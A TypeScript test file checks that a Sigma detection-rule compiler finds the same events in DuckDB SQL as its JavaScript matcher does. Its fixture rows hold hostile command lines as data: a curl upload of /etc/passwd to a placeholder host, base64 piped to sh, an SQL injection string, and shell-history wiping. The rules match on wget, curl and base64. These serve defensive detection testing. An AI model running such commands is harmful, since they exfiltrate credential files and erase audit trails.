// The SQL a rule compiles to finds, in real DuckDB, exactly the events the JavaScript matcher
// finds: the same rules over one table of awkward events, compared rule by rule.
import { DuckDBInstance, type DuckDBConnection } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isRefusal, ruleSql, RuleSet, sqlString, type CompiledRule, type FieldValue, type SqlColumn } from '../../../src/detect/sigma/index.js';
import { ipHex } from '../../../src/detect/sigma/ip.js';
import { compiled, event, rule as parsedRule } from './helpers.js';

interface Row {
  Image: string | null;
  CommandLine: string | null;
  argv: string[] | null;
  pid: number | bigint | null;
  ok: boolean | null;
  DestinationIp: string | null;
  n: string | null;
  User: string | null;
  ParentUser: string | null;
  kw: string[];
}

const base: Row = { Image: '/usr/bin/bash', CommandLine: 'bash -c id', argv: ['bash', '-c', 'id'], pid: 100, ok: true, DestinationIp: '10.0.0.1', n: '5', User: 'root', ParentUser: 'root', kw: ['bash -c id'] };
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const ROWS: Row[] = [
  base,
  { ...base, Image: '/USR/BIN/CURL', CommandLine: 'curl -F file=@/etc/passwd http://x', argv: ['curl', '-F', 'file=@/etc/passwd'], pid: 4688, ok: false, DestinationIp: '192.168.1.5', User: 'Alice', ParentUser: 'alice' },
  { ...base, Image: null, CommandLine: null, argv: null, pid: null, ok: null, DestinationIp: null, n: null, User: null, ParentUser: null, kw: [] },
  { ...base, Image: '', CommandLine: '', argv: [], n: '', User: '', ParentUser: '' },
  { ...base, Image: '/tmp/İSTANBUL', CommandLine: 'echo ΑΣ ÀÉ ẞ', argv: ['ΑΣ'], User: 'ǅ' },
  { ...base, CommandLine: 'line1\nline2\r\nend', argv: ['a\nb'], n: '-12' },
  { ...base, CommandLine: `echo ${b64('foobar!')} | base64 -d | sh`, n: '3.5' },
  { ...base, CommandLine: `echo x${b64('xfoobar')}`, n: '04688' },
  { ...base, CommandLine: `echo ${b64('xyfoobarz')}`, n: '99999999999999999999' },
  { ...base, CommandLine: "it's 100% a_b \\ path C:\\Windows\\x", n: '4688x' },
  { ...base, CommandLine: 'cmd /param-1 \u2015param2', DestinationIp: '::ffff:10.1.1.1' },
  { ...base, CommandLine: 'cmd \u2013param-1 -param2', DestinationIp: '2001:db8::1' },
  { ...base, CommandLine: 'x😀y', DestinationIp: '2001:db9::1', pid: 9007199254740993n },
  { ...base, CommandLine: 'wget -O /tmp/x', DestinationIp: 'not an ip', pid: -5 },
  { ...base, CommandLine: 'wget -o /tmp/x', DestinationIp: '172.31.255.255', ok: false },
  { ...base, CommandLine: 'a\0b', User: 'TRUE', n: 'true' },
  { ...base, CommandLine: "'); DROP TABLE ev; --", argv: ["'); DROP TABLE ev; --", '%_\\'] },
  { ...base, CommandLine: 'ls -lai /', kw: ['history -c', 'cat /dev/null > .bash_history'] },
  { ...base, CommandLine: 'tab\there \u00a0nbsp', kw: ['nothing'] },
];

const COLUMNS: Record<string, SqlColumn> = {
  Image: { sql: 'img', kind: 'text' },
  CommandLine: { sql: 'cmd', kind: 'text' },
  argv: { sql: 'argv', kind: 'list' },
  pid: { sql: 'pid', kind: 'number' },
  ok: { sql: 'ok', kind: 'bool' },
  DestinationIp: { sql: 'ip', kind: 'ip', ipHex: 'ip_hex' },
  n: { sql: 'n', kind: 'text' },
  User: { sql: '"user"', kind: 'text' },
  ParentUser: { sql: 'parent_user', kind: 'text' },
};

/** The same columns with their lowercased forms given, as a hunt over many rules would. */
const LOWERED: Record<string, SqlColumn> = Object.fromEntries(Object.entries(COLUMNS).map(([f, c]) => [
  f, c.kind === 'list' ? { ...c, lower: `list_transform(${c.sql}, lambda x: lower(x))` } : c.kind === 'text' || c.kind === 'ip' ? { ...c, lower: `lower(${c.sql})` } : c,
]));

/** Detections that reach every value form, modifier and condition form. */
const DETECTIONS: string[] = [
  `s: {Image: '/usr/bin/bash'}`,
  `s: {Image|endswith: '/curl'}`,
  `s: {Image|startswith: '/tmp/i'}`,
  `s: {CommandLine|contains: 'σ'}`,
  `s: {CommandLine|contains: 'àé'}`,
  `s: {CommandLine|contains: 'ß'}`,
  `s: {User: 'ǆ'}`,
  `s: {CommandLine|contains|cased: 'ΑΣ'}`,
  `s: {CommandLine: 'line1*end'}`,
  `s: {CommandLine: '*line?\\r*'}`,
  `s: {CommandLine: "*line2?\\nend"}`,
  `s: {CommandLine: "*line2?\\nend"}`,
  `s: {CommandLine: 'x?y'}`,
  `s: {CommandLine|contains: '100%'}`,
  `s: {CommandLine|contains: 'a_b'}`,
  `s: {CommandLine: '*it''s 100\\% a_b*'}`,
  `s: {CommandLine|contains: "it's"}`,
  `s: {CommandLine|contains: '\\ path C:\\Windows\\'}`,
  `s: {CommandLine|contains: 'C:\\\\Windows\\\\*'}`,
  `s: {CommandLine|endswith: "DROP TABLE ev; --"}`,
  `s: {CommandLine|contains: "'); DROP TABLE ev; --"}`,
  `s: {argv|contains: '%_\\'}`,
  `s: {argv: '%_\\'}`,
  `s: {argv: '-c'}`,
  `s: {argv|contains: 'A?B'}`,
  `s: {CommandLine|contains: "a\\0b"}`,
  `s: {CommandLine: "a\\0*"}`,
  `s: {CommandLine: "*\\0?"}`,
  `s: {CommandLine: '*C:\\\\Win*\\x'}`,
  `s: {CommandLine: '*100%*a_b*'}`,
  `s: {CommandLine: '*(*)*'}`,
  `s: {CommandLine: '*[*'}`,
  `s: {CommandLine: 'echo ?? *'}`,
  'sel: {CommandLine|contains: "a\\x00b"}',
  `s: {Image: ''}`,
  `s: {Image: null}`,
  `s: {argv: null}`,
  `s: {Image|exists: true}`,
  `s: {argv|exists: false}`,
  `s: {pid: 4688}`,
  `s: {n: 4688}`,
  `s: {pid: '46*'}`,
  `s: {pid|gt: 100}`,
  `s: {pid|gte: 100}`,
  `s: {pid|lt: 0}`,
  `s: {pid|lte: 100}`,
  `s: {pid|gt: 9007199254740990}`,
  `s: {n|gt: 3}`,
  `s: {n|lt: 0}`,
  `s: {n|gte: 3.5}`,
  `s: {n|gt: 1000000}`,
  `s: {ok: true}`,
  `s: {ok: false}`,
  `s: {n: true}`,
  `s: {User: true}`,
  `s: {ok: 'fal*'}`,
  `s: {CommandLine|re: '\\s-O\\s'}`,
  `s: {CommandLine|re|i: '\\s-O\\s'}`,
  `s: {CommandLine|re: 'line1.line2'}`,
  `s: {CommandLine|re|s: 'line1.line2'}`,
  `s: {CommandLine|re: 'line2.\\nend'}`,
  `s: {CommandLine|re: '^x.y$'}`,
  `s: {CommandLine|re: 'tab\\shere\\s\\S'}`,
  `s: {CommandLine|re: 'here[\\s]nbsp'}`,
  `s: {CommandLine|re: 'here\\s\\snbsp'}`,
  `s: {CommandLine|re: 'here[\\s]+nbsp'}`,
  `s: {CommandLine|re: 'here\\S'}`,
  `s: {CommandLine|re: '(?i)WGET'}`,
  `s: {CommandLine|re: '(?<w>wget) -[oO]'}`,
  `s: {CommandLine|re: '(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)'}`,
  `s: {argv|re: '^-[a-z]$'}`,
  `s: {CommandLine|re: 'a\\x00b'}`,
  `s: {CommandLine|re: '\\u00e9|\\u{1F600}'}`,
  `s: {DestinationIp|cidr: ['10.0.0.0/8', '172.16.0.0/12']}`,
  `s: {DestinationIp|cidr: '2001:db8::/32'}`,
  `s: {DestinationIp|cidr: '::ffff:0:0/96'}`,
  `s: {DestinationIp|cidr: '0.0.0.0/0'}`,
  `s: {CommandLine|base64offset|contains: 'foobar'}`,
  `s: {CommandLine|base64|contains: 'foobar!'}`,
  `s: {CommandLine|windash|contains: '-param-1 -param2'}`,
  `s: {User|fieldref: ParentUser}`,
  `s: {User|fieldref|cased: ParentUser}`,
  `s: {CommandLine|fieldref|contains: User}`,
  `s: {Image|fieldref|startswith: User}`,
  `s: {CommandLine|contains|all: ['wget', '/tmp']}`,
  `s: {CommandLine|neq: 'bash -c id'}`,
  `s: {CommandLine|contains: ['wget', 'curl']}`,
  `k: ['history -c']`,
  `k: ['BASH_HISTORY', 'nothing']`,
  `k: {'|all': ['history', 'dev/null']}`,
  `k: {'|re': 'hist.ry'}`,
  `s: [{Image|endswith: '/bash'}, {pid: 4688}]`,
  `s: {Image|endswith: '/bash', ok: true}\n      f: {CommandLine|contains: ['wget', 'base64']}\n      condition: s and not f`,
  `a: {pid: 100}\n      b: {n|gt: 0}\n      c: {ok: false}\n      condition: 1 of a* or (b and not c)`,
  `a1: {pid: 100}\n      a2: {n|lt: 10}\n      condition: all of a*`,
  `a1: {pid: 100}\n      a2: {ok: true}\n      condition: all of them`,
  `a1: {pid: 100}\n      a2: {ok: true}\n      condition: [a1 and not a2, not a1]`,
];

const detection = (d: string): string => `\n      ${d}${d.includes('condition:') ? '' : `\n      condition: ${d.slice(0, d.indexOf(':'))}`}`;

const lit = (v: FieldValue | string[]): string => {
  if (v === null || v === undefined) return 'NULL';
  if (Array.isArray(v)) return `[${v.map(lit).join(', ')}]::VARCHAR[]`;
  if (typeof v === 'string') return sqlString(v);
  return String(v);
};

let db: DuckDBInstance;
let con: DuckDBConnection;

beforeAll(async () => {
  db = await DuckDBInstance.create(':memory:');
  con = await db.connect();
  await con.run('CREATE TABLE ev (id INTEGER, img VARCHAR, cmd VARCHAR, argv VARCHAR[], pid BIGINT, ok BOOLEAN, ip VARCHAR, ip_hex VARCHAR, n VARCHAR, "user" VARCHAR, parent_user VARCHAR, kw VARCHAR[])');
  const values = ROWS.map((r, id) =>
    `(${[id, lit(r.Image), lit(r.CommandLine), lit(r.argv), lit(r.pid), lit(r.ok), lit(r.DestinationIp), lit(r.DestinationIp === null ? null : ipHex(r.DestinationIp)), lit(r.n), lit(r.User), lit(r.ParentUser), lit(r.kw)].join(', ')})`);
  await con.run(`INSERT INTO ev VALUES ${values.join(', ')}`);
});

afterAll(() => {
  con?.closeSync();
  db?.closeSync();
});

async function sqlMatches(where: string): Promise<number[]> {
  const rows = (await con.runAndReadAll(`SELECT id FROM ev WHERE ${where} ORDER BY id`)).getRowsJson();
  return rows.map((r) => r[0] as number);
}

function jsMatches(rule: CompiledRule): number[] {
  const set = new RuleSet([rule]);
  return ROWS.flatMap((r, id) => (set.match(event({ ...r, kw: undefined } as unknown as Record<string, FieldValue>, r.kw)).length ? [id] : []));
}

describe('hunts in DuckDB', () => {
  it('every detection finds the same events in SQL as in JavaScript (columns lowercased by the rule, or given lowercased)', async () => {
    const differences: string[] = [];
    let matched = 0;
    for (const d of DETECTIONS) {
      const rule = compiled(detection(d));
      const js = jsMatches(rule);
      if (js.length) matched++;
      for (const columns of [COLUMNS, LOWERED]) {
        const q = ruleSql(rule, (f) => columns[f], 'kw');
        if (isRefusal(q)) throw new Error(`${d}: ${q.reason}`);
        const sql = await sqlMatches(q.sql);
        if (JSON.stringify(js) !== JSON.stringify(sql)) differences.push(`${d}\n  js  ${JSON.stringify(js)}\n  sql ${JSON.stringify(sql)}\n  ${q.sql}`);
      }
    }
    expect(differences).toEqual([]);
    // The table is not vacuous: most detections match something.
    expect(matched).toBeGreaterThan(DETECTIONS.length * 0.8);
  });

  it('hostile literals stay literals: the table is intact after every rule ran', async () => {
    expect((await con.runAndReadAll('SELECT count(*)::INTEGER FROM ev')).getRowsJson()).toEqual([[ROWS.length]]);
  });

  it('hostile wildcard patterns run in time linear in the text (DuckDB\'s LIKE with _ backtracks; these do not reach it)', async () => {
    for (const pattern of [`${'*a'.repeat(300)}*b`, `${'*a?'.repeat(300)}*b`, `${'*a\\_'.repeat(300)}*b`]) {
      const rule = compiled(detection(`s: {CommandLine: '${pattern}'}`));
      const q = ruleSql(rule, (f) => COLUMNS[f]);
      if (isRefusal(q)) throw new Error(q.reason);
      const t0 = performance.now();
      const rows = (await con.runAndReadAll(`SELECT count(*)::INTEGER FROM (SELECT repeat('a', 20000) AS cmd) WHERE ${q.sql}`)).getRowsJson();
      expect(rows).toEqual([[0]]);
      expect(performance.now() - t0).toBeLessThan(5000);
    }
  });

  it('refuses what RE2 cannot run the same way, and columns that cannot hold the test', () => {
    const reason = (d: string, cols: Record<string, SqlColumn> = COLUMNS, kw?: string): string => {
      const q = ruleSql(compiled(detection(d)), (f) => cols[f], kw);
      return isRefusal(q) ? q.reason : '';
    };
    expect(reason(`s: {CommandLine|re: 'a(?=b)'}`)).toBe("regular expression 'a(?=b)': lookarounds cannot run in RE2");
    expect(reason(`s: {CommandLine|re: '(?<!a)b'}`)).toBe("regular expression '(?<!a)b': lookarounds cannot run in RE2");
    expect(reason(`s: {CommandLine|re: '(a)\\1'}`)).toBe("regular expression '(a)\\1': backreferences (\\1) cannot run in RE2");
    expect(reason(`s: {CommandLine|re: 'a{2000}'}`)).toMatch(/repetition counts above 1000/);
    expect(reason(`s: {CommandLine|re: '\\p{L}'}`)).toMatch(/Unicode property escapes/);
    expect(reason(`s: {CommandLine|re|m: '^a$'}`)).toMatch(/the m flag/);
    expect(reason(`s: {CommandLine|cidr: '10.0.0.0/8'}`)).toBe("cidr on 'CommandLine', which is not an address column");
    expect(reason(`s: {argv|fieldref: User}`)).toMatch(/a list field cannot be compared/);
    expect(reason(`k: ['x']`)).toBe('keyword search, and the source has no keyword column');
    expect(reason(`s: {Hashes: 'x'}`)).toBe("field 'Hashes' has no column");
  });

  it('compiles a rule not yet compiled for the fields that have columns', () => {
    expect(ruleSql(parsedRule(detection(`s: {Hashes: 'x'}`)), (f) => COLUMNS[f])).toEqual({ reason: "field 'Hashes' not in this log source" });
    expect(ruleSql(parsedRule(detection(`k: ['x']`)), (f) => COLUMNS[f])).toEqual({ reason: 'keyword search, and this log source has no keyword text' });
    expect(ruleSql(parsedRule(detection(`s: {Image: 'x'}`)), (f) => COLUMNS[f])).toEqual({ sql: "coalesce(lower(img) = 'x', false)" });
  });

  it('puts a column given as an expression in parentheses', async () => {
    const q = ruleSql(parsedRule(detection(`s: {Image: null}`)), () => ({ sql: "img || 'x'", kind: 'text' }));
    expect(q).toEqual({ sql: "coalesce((img || 'x') IS NULL, false)" });
    expect(await sqlMatches((q as { sql: string }).sql)).toEqual([2]);
  });
});
